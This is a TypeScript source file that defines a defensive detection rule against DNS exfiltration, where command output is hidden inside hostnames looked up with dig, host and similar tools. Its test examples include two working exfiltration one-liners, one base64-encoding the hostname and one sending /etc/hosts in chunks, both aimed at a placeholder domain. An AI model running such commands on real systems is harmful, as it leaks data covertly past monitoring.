import { eachCommand, programOf, type Rule } from './rule.ts'

export const rule: Rule = {
  id: 'data-in-name-query',
  level: 'stop',
  why: 'What a command prints becomes part of a name that is looked up: whoever runs the name server reads it.',
  techniques: ['T1048', 'T1071.004'],
  needs: { programs: ['dig', 'host', 'nslookup', 'drill', 'ping', 'getent', 'resolvectl'] },
  find: (facts) =>
    eachCommand(
      facts,
      (command) =>
        /^(dig|host|nslookup|drill|ping|getent|resolvectl)$/.test(programOf(command)) &&
        command.fields.some(
          (field) =>
            /(\)|`|\}|\$\w+)"?\.[\w$.-]*[a-z]{2,}/i.test(field.typed) &&
            (/\$\(|`/.test(field.typed) || field.value.flows.some((flow) => flow.kind === 'file')),
        ),
      () => 'what a command prints is sent out inside a name that is looked up',
    ),
  fires: [
    'dig "$(hostname | base64).x.example.org"',
    'for l in $(xxd -p /etc/hosts); do host $l.x.example.org; done',
  ],
  silent: ['dig +short TXT _dmarc.example.com', 'host "$(hostname)"', 'h=web1; ping -c1 $h.example.com'],
}
